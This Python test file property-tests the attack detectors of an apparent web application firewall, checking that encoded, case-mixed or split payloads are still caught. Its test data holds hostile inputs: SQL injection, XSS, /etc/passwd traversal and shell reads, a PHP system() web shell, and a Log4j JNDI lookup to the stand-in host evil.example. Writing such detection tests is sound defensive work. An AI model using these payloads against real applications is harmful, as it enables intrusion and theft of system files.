"""Detectors on any bytes: none raises, none hangs, and disguises that an application would undo keep the find."""

from __future__ import annotations

import base64
from urllib.parse import quote

from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.edge.inspect import WebRequest
from garrison.edge.inspect.detect import code, java, paths, php, shell, sql, survey, urls, windows, xss
from garrison.edge.inspect.detect.body import pieces
from garrison.edge.inspect.detect.normal import MOST, readings
from garrison.edge.inspect.detect.survey import Kind, Part, Survey, examine

SIGNS = st.sampled_from(
    [
        b"'",
        b'"',
        b"`",
        b"<",
        b">",
        b"(",
        b")",
        b"--",
        b"/*",
        b"*/",
        b"#",
        b";",
        b"|",
        b"&",
        b"$",
        b"{",
        b"}",
        b"${",
        b"%",
        b"%25",
        b"\\",
        b"/",
        b"../",
        b"\n",
        b"\0",
        b" or ",
        b"union ",
        b"select ",
        b"<script",
        b"on",
        b"=",
        b"java.",
        b"php:",
        b"http://",
        b"[",
        b"]",
        b",",
        b"@",
        b"!",
        b"?",
        b"a",
        b"1",
    ]
)
HOSTILE = st.lists(SIGNS, max_size=60).map(b"".join)
VALUES = st.one_of(st.binary(max_size=300), HOSTILE)
DETECTORS = (
    sql.detect,
    xss.detect,
    xss.document,
    paths.detect,
    paths.hidden,
    shell.detect,
    windows.detect,
    windows.powershell,
    php.detect,
    java.detect,
    java.log4j,
    code.detect,
    code.lookup,
    code.react,
    urls.rfi,
    urls.ssrf,
)


@given(VALUES)
@settings(max_examples=300, deadline=None)
def test_no_bytes_make_a_detector_raise(value: bytes) -> None:
    for detect in DETECTORS:
        found = detect(value)
        assert found is None or isinstance(found, bytes)


@given(VALUES, st.booleans())
@settings(max_examples=300, deadline=None)
def test_readings_are_few_and_end(value: bytes, form: bool) -> None:
    assert 1 <= len(readings(value, form=form)) <= MOST + 1


@given(
    st.sampled_from(
        [
            "application/json",
            "text/xml",
            "multipart/form-data; boundary=b",
            "application/x-www-form-urlencoded",
            "text/plain",
            "",
            "text/plain; charset=utf-16",
            "a/b; charset=nonsense",
        ]
    ),
    VALUES,
)
@settings(max_examples=200, deadline=None)
def test_any_body_of_any_type_is_taken_apart(kind: str, body: bytes) -> None:
    assert len(pieces(body, kind.encode())) <= 2001


@given(VALUES, VALUES, VALUES)
@settings(max_examples=150, deadline=None)
def test_any_request_is_surveyed(path: bytes, header: bytes, body: bytes) -> None:
    Survey(WebRequest("POST", b"/" + path, [(b"x", header), (b"cookie", path)], body, source_ip="192.0.2.1"), 8192)


ATTACKS = st.sampled_from(
    [
        (Kind.SQLI, b"' or 1=1-- "),
        (Kind.SQLI, b"1 union select 1,2,3"),
        (Kind.XSS, b"<script>alert(1)</script>"),
        (Kind.XSS, b"<img src=x onerror=alert(1)>"),
        (Kind.LFI, b"../../../etc/passwd"),
        (Kind.SHELL, b";cat /etc/passwd"),
        (Kind.PHP, b"<?php system('id'); ?>"),
        (Kind.LOG4J, b"${jndi:ldap://evil.example/a}"),
        (Kind.JAVA, b"java.lang.Runtime.getRuntime()"),
        (Kind.RFI, b"http://127.0.0.1/x"),
    ]
)


def _found(value: bytes, *, form: bool = False) -> set[Kind]:
    return {kind for kind, _ in examine(value, kind="text", form=form)}


@given(ATTACKS, st.integers(1, 3), st.lists(st.booleans(), min_size=40, max_size=40))
@settings(max_examples=200, deadline=None)
def test_layers_of_url_encoding_hide_nothing(attack: tuple[Kind, bytes], layers: int, choices: list[bool]) -> None:
    kind, value = attack
    for layer in range(layers):
        value = (
            b"".join(
                b"%%%02x" % byte if choices[index % 40] or byte == 0x25 or layer else quote(bytes((byte,))).encode()
                for index, byte in enumerate(value)
            )
            if len(value) < 2000
            else value
        )
    assert kind in _found(value, form=True)


@given(ATTACKS, st.lists(st.booleans(), min_size=40, max_size=40))
@settings(max_examples=200, deadline=None)
def test_entities_and_unicode_escapes_hide_nothing(attack: tuple[Kind, bytes], choices: list[bool]) -> None:
    kind, value = attack
    entities = b"".join(b"&#x%x;" % byte if choices[index % 40] else bytes((byte,)) for index, byte in enumerate(value))
    escapes = b"".join(b"\\u%04x" % byte if choices[index % 40] else bytes((byte,)) for index, byte in enumerate(value))
    assert kind in _found(entities)
    assert kind in _found(escapes)


@given(
    st.sampled_from(
        [b"union select 1,2", b"<script>alert(1)</script>", b"${jndi:ldap://evil.example/}", b"<svg onload=alert(1)>"]
    ),
    st.lists(st.booleans(), min_size=40, max_size=40),
)
@settings(max_examples=200, deadline=None)
def test_letter_case_hides_nothing(value: bytes, choices: list[bool]) -> None:
    mixed = bytes(byte ^ 0x20 if bytes((byte,)).isalpha() and choices[index % 40] else byte for index, byte in enumerate(value))
    assert _found(mixed)


@given(st.lists(st.sampled_from([b"/**/", b"/*x*/", b" ", b"\t", b"\n", b"\xa0"]), min_size=4, max_size=4))
@settings(max_examples=100, deadline=None)
def test_white_space_and_comments_of_sql_hide_nothing(gaps: list[bytes]) -> None:
    value = b"1" + gaps[0] + b"union" + gaps[1] + b"select" + gaps[2] + b"password" + gaps[3] + b"from users"
    assert sql.detect(value) is not None


@given(st.lists(st.sampled_from([b"''", b'""', b"\\", b"$@", b""]), min_size=2, max_size=2))
@settings(max_examples=50, deadline=None)
def test_quotes_inside_commands_hide_nothing(gaps: list[bytes]) -> None:
    value = b";c" + gaps[0] + b"at /etc/pa" + gaps[1] + b"sswd"
    assert Kind.SHELL in _found(value)


def test_base64_hides_nothing() -> None:
    assert Kind.PHP in _found(base64.b64encode(b"<?php system($_GET['c']); ?>"))


def test_gates_lose_no_find_of_a_detector() -> None:
    # The automaton of gates must let through whatever a detector finds: each published attack is found with and without it.
    for value in (
        b"1 or 1=1",
        b"<x onclick=alert(1)>",
        b"/etc/passwd",
        b"| id",
        b"phpinfo()",
        b"%{7*7}",
        b"{{7*7}}",
        b"http://[::1]/",
    ):
        found = {
            kind
            for kind, detect in (
                (Kind.SQLI, sql.detect),
                (Kind.XSS, xss.detect),
                (Kind.LFI, paths.detect),
                (Kind.SHELL, shell.detect),
                (Kind.PHP, php.detect),
                (Kind.CODE, code.detect),
                (Kind.RFI, urls.rfi),
            )
            if detect(value)
        }
        assert found <= _found(value), value


@given(VALUES)
@settings(max_examples=300, deadline=None)
def test_gates_let_through_what_their_patterns_match(value: bytes) -> None:
    hot = {survey._KINDS[index] for index in survey.gates().scan(value)}
    for kind, gates in survey._MODULES:
        if any(gate.search(value) for gate in gates):
            assert kind in hot, (kind, [gate.pattern[:60] for gate in gates if gate.search(value)])


def test_a_survey_of_a_large_hostile_request_ends() -> None:
    body = b"a=" + b"'/*" * 20000 + b"&b=" + b"${" * 10000 + b"&c=" + b"<a " * 10000 + b"&d=" + b"%25" * 20000
    Survey(
        WebRequest(
            "POST",
            b"/" + b"../" * 300 + b"?" + b"a[" * 1000,
            [(b"x", b"(" * 8000), (b"cookie", b"=;" * 4000)],
            body,
            source_ip="192.0.2.1",
        ),
        65536,
    )
    assert Part.BODY.value == "BODY"
